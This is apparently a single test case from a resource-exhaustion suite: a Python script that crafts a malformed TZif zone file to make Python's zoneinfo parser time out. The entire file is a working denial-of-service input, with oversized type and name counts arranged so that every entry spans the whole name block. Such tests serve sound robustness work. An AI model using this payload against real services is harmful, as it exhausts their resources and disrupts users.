# attack: 44 a zone file whose kinds all have the whole block of names for their name
# expect: timeout
# limits: timeout=300ms
import io
import struct
import zoneinfo

kinds, names = 100_000, 600_000


def block():
    return b"TZif2" + b"\0" * 15 + struct.pack(">6l", 0, 0, 0, 0, kinds, names) + b"\0" * (6 * kinds) + b"a" * names


zoneinfo.ZoneInfo.from_file(io.BytesIO(block() + block() + b"\nUTC0\n"))
